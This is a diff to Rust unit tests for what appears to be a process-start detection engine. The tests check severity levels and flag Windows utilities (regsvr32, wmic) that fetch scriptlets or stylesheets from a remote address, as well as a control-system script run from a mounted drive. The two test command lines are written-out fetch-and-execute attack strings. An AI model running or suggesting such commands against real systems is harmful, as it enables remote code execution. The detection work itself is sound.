@@ -242,8 +242,10 @@ fn a_utility_and_what_it_starts() {
             regsvr32,
         ),
     ]);
-    assert_eq!(found.len(), 1);
-    assert_eq!(found[0].process, Some(2));
+    // The utility by itself, and again as what it starts makes it worse.
+    let severities: Vec<_> = found.iter().map(|finding| finding.severity).collect();
+    assert_eq!(severities, [Severity::Medium, Severity::High]);
+    assert!(found.iter().all(|finding| finding.process == Some(2)));
 }
 
 #[test]
@@ -299,4 +301,35 @@ fn an_unsigned_child_told_by_its_own_image() {
     ]);
     assert_eq!(found.len(), 1);
     assert!(stages(&found[0]).contains(&"effect.odd-child"));
+}
+
+#[test]
+fn a_utility_that_takes_script_from_the_network_is_found_alone() {
+    for (image, line) in [
+        (
+            r"C:\Windows\System32\regsvr32.exe",
+            "regsvr32 /s /u /i:http://203.0.113.5/a.sct scrobj.dll",
+        ),
+        (
+            r"C:\Windows\System32\wbem\WMIC.exe",
+            "wmic os get /format:\"https://203.0.113.5/a.xsl\"",
+        ),
+    ] {
+        assert_eq!(
+            run([start(2, image, line, 1, CMD).at(NOON)]).len(),
+            1,
+            "{line}"
+        );
+    }
+}
+
+#[test]
+fn a_control_system_script_on_a_mounted_image_is_found_alone() {
+    let app = r"C:\sc\prog\exec\scilc.exe";
+    let at = |directory: &str| {
+        let event = start(2, app, r"scilc.exe -do pack\s1.txt", 1, CMD).at(NOON);
+        run([event.set(field::PROCESS_WORKING_DIRECTORY, directory)]).len()
+    };
+    assert_eq!(at("E:\\"), 1);
+    assert_eq!(at("C:\\sc\\"), 0);
 }
